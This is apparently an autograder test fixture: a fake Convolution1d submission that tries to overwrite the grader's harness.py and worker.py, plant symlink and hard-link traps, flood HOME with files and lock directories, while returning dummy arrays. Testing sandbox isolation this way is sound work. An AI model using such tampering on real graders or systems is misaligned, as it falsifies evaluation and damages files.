"""Tampers with its workspace and the grader's runtime, and sets traps for the cleanup."""
import glob
import os
import sys

import numpy as np

VICTIMS = "/tmp/autograder-hostile-victim-*"  # the suite plants one and checks it survives


def _try(label, action):
    try:
        action()
        print("DONE", label)
    except OSError as exc:
        print("DENIED", label, type(exc).__name__)


def _overwrite(path):
    with open(path, "w") as f:
        f.write("def matvec(**kwargs):\n    return 'tampered'\n")


def _tamper():
    frame = sys._getframe()
    while not frame.f_code.co_filename.endswith("harness.py"):  # our caller: the copy this run imports
        frame = frame.f_back
    harness = frame.f_code.co_filename
    with open("/proc/self/cmdline") as f:  # python -I -B .../worker.py REPLY_FD
        worker = next(a for a in f.read().split("\0") if a.endswith("worker.py"))
    _try("harness.py", lambda: _overwrite(harness))
    _try("worker.py", lambda: _overwrite(worker))
    home = os.path.expanduser("~")
    for i, victim in enumerate(glob.glob(VICTIMS)):
        _try("symlink in cwd", lambda: os.symlink(victim, f"victim-link-{i}"))
        _try("symlink in HOME", lambda: os.symlink(victim, os.path.join(home, f"victim-link-{i}")))
        _try("hard link", lambda: os.link(victim, os.path.join(home, f"victim-hard-{i}")))
    _try("dir symlink", lambda: os.symlink("/tmp", os.path.join(home, "tmp-link")))
    os.makedirs(os.path.join(home, "many"), exist_ok=True)
    for i in range(10_000):
        open(os.path.join(home, "many", str(i)), "w").close()
    _try("rewrite conv1D.py", lambda: _overwrite("conv1D.py"))
    _try("lock HOME", lambda: os.chmod(os.path.join(home, "many"), 0))
    _try("lock cwd", lambda: os.chmod(".", 0o500))


class Convolution1d:
    def __init__(self, filt):
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, x):
        done = os.path.expanduser("~/.done")
        if not os.path.exists(done):
            open(done, "w").close()
            _tamper()
        return np.zeros(x.size - self.filt.size + 1)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, y):
        return np.ones(y.size + self.filt.size - 1)
